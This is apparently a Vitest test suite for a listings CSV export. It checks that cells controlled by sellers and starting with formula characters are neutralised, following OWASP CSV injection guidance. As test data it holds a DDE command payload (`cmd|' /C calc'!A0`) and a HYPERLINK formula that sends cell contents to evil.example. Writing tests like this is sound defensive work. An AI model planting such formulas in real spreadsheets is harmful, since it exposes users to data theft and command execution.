import { describe, expect, it } from 'vitest';
import type { ExportRow } from '#domain/api-types.ts';
import { exportRow } from '#tests/support/listing-builder.ts';
import { formulaStarts } from '#domain/spreadsheet-cell.ts';
import { buildRecordsCsv } from '../../../web/src/features/list/utils/records-csv';

// The records file is safe to open in a spreadsheet (OWASP CSV Injection): a cell the seller
// controls that starts as a formula is written with a leading ' and in quotes, whatever the
// column; numbers the file computes stay numbers. The rows themselves (the export API) are
// not changed.

const row = exportRow;

async function fileOf(rows: ExportRow[]): Promise<string> {
  const { blob } = await buildRecordsCsv(async () => ({ rows, nextCursor: null }));
  return blob.text();
}

/** The quoted, neutralised cell as the file must hold it. */
const safe = (cell: string) => `"'${cell.replaceAll('"', '""')}"`;

const payloads = (start: string) => `${start}cmd|' /C calc'!A0`;

/** Each column a seller's text reaches, and the row that puts the payload there. */
const columns: Record<string, (text: string) => Partial<ExportRow>> = {
  title: (text) => ({ title: text }),
  price: (text) => ({ price: text }),
  currency: (text) => ({ currency: text }),
  state: (text) => ({ state: text }),
  'marketplaces and listed on': (text) => ({
    postings: [{ marketplace: text, listed_at: '2026-10-05T09:00:00.000Z' }],
  }),
  'sold where': (text) => ({
    state: 'sold',
    sold_at: '2026-10-20T10:00:00.000Z',
    sold_price_minor: 3505,
    sold_currency: 'GBP',
    sold_where: text,
  }),
};

describe('the records file against formulas', () => {
  const cases = Object.keys(columns).flatMap((column) =>
    formulaStarts().map((start) => [column, JSON.stringify(start), start] as const),
  );

  it.each(cases)('neutralises the %s column starting with %s', async (column, _shown, start) => {
    const text = payloads(start);
    const file = await fileOf([row(columns[column]!(text))]);
    expect(file).toContain(safe(text));
    expect(file).not.toMatch(new RegExp(`(^|[,\\n])${escapeRegExp(start)}`));
  });

  it('covers the six characters OWASP names', () => {
    expect(formulaStarts()).toEqual(expect.arrayContaining(['=', '+', '-', '@', '\t', '\r']));
  });

  it('neutralises a HYPERLINK title, doubling its quotes', async () => {
    const title = '=HYPERLINK("http://evil.example/?d="&A2,"Click")';
    expect(await fileOf([row({ title })])).toContain(
      `"'=HYPERLINK(""http://evil.example/?d=""&A2,""Click"")"`,
    );
  });

  it('keeps negative and plain numbers as numbers, and ordinary text as it is', async () => {
    const file = await fileOf([row({ title: 'Oak chair - hardly used', price: '-5.00' })]);
    expect(file.split('\n')[1]).toBe('Oak chair - hardly used,-5.00,GBP,Saved,,,2026-10-01,,,,,,,');
  });

  it('leaves the rows it was given unchanged', async () => {
    const given = row({ title: '=1+1' });
    await fileOf([given]);
    expect(given.title).toBe('=1+1');
  });
});

function escapeRegExp(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
